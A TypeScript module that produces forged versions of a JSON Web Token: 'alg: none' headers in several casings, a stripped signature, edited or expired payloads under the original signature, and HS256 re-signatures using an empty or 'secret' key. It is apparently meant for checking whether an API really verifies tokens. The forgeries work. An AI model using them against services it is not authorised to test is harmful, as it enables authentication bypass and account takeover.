// Forged variants of an identity's JWT (RFC 8725 attacks): an API that accepts any of them does not
// verify tokens. Each variant keeps the identity's claims, so an accepted one answers like the real token.
import { createHmac } from 'node:crypto';

/** Casings of "none" that libraries comparing case-sensitively against "none" let through. */
const NONE_CASINGS = ['none', 'None', 'nOnE'];
/** Keys tried for an HS256 re-signature: empty, and the most common placeholder. */
const GUESSED_KEYS = ['', 'secret'];

const encode = (obj: object) => Buffer.from(JSON.stringify(obj)).toString('base64url');

function decode(part: string): Record<string, unknown> | undefined {
  try {
    const value = JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as unknown;
    return value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}

/** [description, forged token] pairs; none when `token` is not a JWS in compact form. */
export function forgedTokens(token: string, now = Date.now()): [string, string][] {
  const parts = token.split('.');
  if (parts.length !== 3) return [];
  const [head, payload, signature] = parts as [string, string, string];
  const header = decode(head);
  const claims = decode(payload);
  if (!header || !claims) return [];
  const out: [string, string][] = [];
  for (const alg of NONE_CASINGS) out.push([`a token with "alg": "${alg}"`, `${encode({ ...header, alg })}.${payload}.`]);
  out.push(['the token without its signature', `${head}.${payload}.`]);
  // The original signature over a changed payload: accepted only when signatures are not checked.
  out.push(['the token with an edited payload and the original signature', `${head}.${encode({ ...claims, pcs: 'edited' })}.${signature}`]);
  out.push(['the token made expired (exp an hour ago, original signature)', `${head}.${encode({ ...claims, exp: Math.floor(now / 1000) - 3600 })}.${signature}`]);
  const hsHead = encode({ ...header, alg: 'HS256', typ: 'JWT' });
  for (const key of GUESSED_KEYS) {
    const input = `${hsHead}.${payload}`;
    out.push([`the token re-signed with HS256 and ${key ? `the key "${key}"` : 'an empty key'}`, `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`]);
  }
  return out;
}
